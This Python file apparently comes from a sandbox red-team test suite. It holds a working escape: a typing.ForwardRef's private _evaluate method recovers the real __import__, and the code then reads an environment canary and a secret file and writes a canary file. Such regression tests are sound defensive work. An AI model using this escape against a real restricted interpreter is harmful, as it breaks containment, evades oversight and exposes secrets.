# mypy: ignore-errors
# Technique: `typing.get_args(typing.List["..."])` hands out a `typing.ForwardRef`, whose
# private `_evaluate` runs `eval` of its string with the real builtins when given `{}` as
# globals. Plain `obj._x` syntax on foreign objects was not checked. Found in the red-team
# pass of the in-interpreter layer; was a real in-interpreter escape before the fix.
import typing


def attack(secret_path, canary_path):
    ref = typing.get_args(typing.List["__import__"])[0]  # noqa: UP006 - typing.List makes a ForwardRef
    imp = ref._evaluate({}, {}, recursive_guard=frozenset())
    print("SANDBOX-" + "ESCAPED")
    os = imp("os")
    out = [os.environ.get("SUAVEPLAN_ESCAPE_CANARY")]
    with os.fdopen(os.open(secret_path, os.O_RDONLY)) as f:
        out.append(f.read())
    os.open(canary_path, os.O_CREAT | os.O_WRONLY)
    return out
